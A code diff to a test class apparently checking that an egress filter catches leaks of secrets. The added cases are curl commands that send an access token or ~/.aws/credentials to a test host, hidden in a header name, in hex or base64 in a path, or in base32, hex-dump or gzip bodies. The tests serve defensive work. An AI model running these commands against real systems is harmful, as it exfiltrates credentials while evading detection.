@@ -79,6 +79,12 @@ class Canaries(Output):
             "target": POST + URL + "/ok/$BACKUP_ACCESS_TOKEN",
             "query": POST + URL + "/ok/x?t=$BACKUP_ACCESS_TOKEN",
             "header": POST + "-H \"x-token: $BACKUP_ACCESS_TOKEN\" " + URL + "/ok/x",
+            "a header's name": POST + "-H \"x-$BACKUP_ACCESS_TOKEN: 1\" " + URL + "/ok/x",
+            "hex in a path": POST + URL + "/ok/$(printf %s $BACKUP_ACCESS_TOKEN | od -An -v -tx1 | tr -d ' \\n')",
+            "base64 in a path": POST + URL + "/okay/$(printf %s $BACKUP_ACCESS_TOKEN | base64 -w0)",
+            "body, a dump": "od -An -v -tx1 -w4096 ~/.aws/credentials | " + POST + "--data-binary @- " + URL + "/ok/x",
+            "body, base32": "base32 -w0 ~/.aws/credentials | " + POST + "--data-binary @- " + URL + "/ok/x",
+            "body, the second of two": "(echo x | gzip -c; gzip -c ~/.aws/credentials) | " + POST + "--data-binary @- " + URL + "/ok/x",
             "authorization": POST + "-u \"me:$BACKUP_ACCESS_TOKEN\" " + URL + "/ok/x",
         }
         done = self.run_("; ".join(ways.values()), self.ON)
@@ -99,8 +105,9 @@ class Canaries(Output):
     def test_noneLeavesByHttp2(self):
         done = self.run_("curl -sS -m 30 --http2 -o /dev/null -w '%{http_version} %{http_code}\\n' --data-binary @$HOME/.aws/credentials https://h2.test:4443/x",
                          self.ON, rule("h2.test", 4443, 'name = "any"'))
-        self.assertEqual(done.stdout.strip(), "2 403", done.stderr)
-        self.assertTrue(self.sightings())
+        # This server may answer before it has the body: then the stream is broken off instead.
+        self.assertIn(done.stdout.strip(), ("2 403", "0 000"), done.stderr)
+        self.assertEqual({r["verdict"] for r in self.sightings()}, {"deny"})
 
     def test_noneIsLookedUpAsAName(self):
         script = """import binascii, os, socket
